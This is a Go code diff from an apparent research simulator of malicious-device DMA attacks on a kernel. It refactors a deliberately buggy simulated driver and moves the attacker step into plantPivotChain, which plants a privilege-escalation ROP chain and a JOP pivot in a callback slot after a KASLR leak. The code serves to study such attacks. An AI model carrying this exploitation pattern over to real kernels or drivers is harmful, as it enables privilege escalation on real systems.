@@ -49,12 +49,7 @@ func InstallBuggyDriver(sys *core.System, dev iommu.DeviceID, cpu int) (*BuggyCo
 	if err := sys.Mem.WriteU64(kva+cmdNetNSOff, uint64(initNet)); err != nil {
 		return nil, err
 	}
-	cb, err := sys.Kernel.FuncAddr("sock_wfree")
-	if err != nil {
-		sys.Kernel.RegisterSymbol("sock_wfree", func(c *kexec.CPU) error { return nil })
-		cb, _ = sys.Kernel.FuncAddr("sock_wfree")
-	}
-	if err := sys.Mem.WriteU64(kva+cmdCallbackOff, uint64(cb)); err != nil {
+	if err := sys.Mem.WriteU64(kva+cmdCallbackOff, uint64(benignCallback(sys))); err != nil {
 		return nil, err
 	}
 	va, err := sys.Mapper.MapSingle(dev, kva, cmdBlockSize, dma.Bidirectional)
@@ -62,6 +57,18 @@ func InstallBuggyDriver(sys *core.System, dev iommu.DeviceID, cpu int) (*BuggyCo
 		return nil, err
 	}
 	return &BuggyCommandBlock{KVA: kva, IOVA: va}, nil
+}
+
+// benignCallback is the address of sock_wfree, the legitimate callback a
+// kernel object carries before the device contests it; it registers a no-op
+// sock_wfree on kernels that lack one.
+func benignCallback(sys *core.System) layout.Addr {
+	cb, err := sys.Kernel.FuncAddr("sock_wfree")
+	if err != nil {
+		sys.Kernel.RegisterSymbol("sock_wfree", func(c *kexec.CPU) error { return nil })
+		cb, _ = sys.Kernel.FuncAddr("sock_wfree")
+	}
+	return cb
 }
 
 // CompleteCommand is the driver's completion path: it loads the callback
@@ -73,6 +80,25 @@ func CompleteCommand(sys *core.System, blk *BuggyCommandBlock) error {
 		return err
 	}
 	return sys.Kernel.InvokeCallback(layout.Addr(cb), uint64(blk.KVA))
+}
+
+// plantPivotChain lays the Fig. 4 exploit over a device-writable object
+// at base: the escalation ROP chain where the pivot will move %rsp
+// (base+PivotDisplacement) and the JOP pivot in the callback slot at
+// base+cbOff.
+func plantPivotChain(atk *device.Attacker, base, cbOff iommu.IOVA) error {
+	pivot, err := atk.PivotAddr()
+	if err != nil {
+		return err
+	}
+	chain, err := atk.ChainAddresses()
+	if err != nil {
+		return err
+	}
+	if err := atk.Bus.Write(atk.Dev, base+kexec.PivotDisplacement, kexec.ChainBytes(kexec.EscalationChain(chain))); err != nil {
+		return err
+	}
+	return atk.Bus.WriteU64(atk.Dev, base+cbOff, uint64(pivot))
 }
 
 // RunSingleStep executes the single-step baseline: every §3.3 attribute is
@@ -99,20 +125,8 @@ func RunSingleStep(sys *core.System, atk *device.Attacker, blk *BuggyCommandBloc
 	}
 	r.logf("init_net leak broke KASLR: text base recovered")
 
-	// Build the Fig. 4 structure inside the same mapped block: the ROP
-	// chain where the pivot will move %rsp, the pivot in the callback slot.
-	pivot, err := atk.PivotAddr()
-	if err != nil {
-		return r.fail(err)
-	}
-	chain, err := atk.ChainAddresses()
-	if err != nil {
-		return r.fail(err)
-	}
-	if err := atk.Bus.Write(atk.Dev, blk.IOVA+kexec.PivotDisplacement, kexec.ChainBytes(kexec.EscalationChain(chain))); err != nil {
-		return r.fail(err)
-	}
-	if err := atk.Bus.WriteU64(atk.Dev, blk.IOVA+cmdCallbackOff, uint64(pivot)); err != nil {
+	// Build the Fig. 4 structure inside the same mapped block.
+	if err := plantPivotChain(atk, blk.IOVA, cmdCallbackOff); err != nil {
 		return r.fail(err)
 	}
 	r.logf("callback overwritten with JOP pivot, ROP chain planted in block")
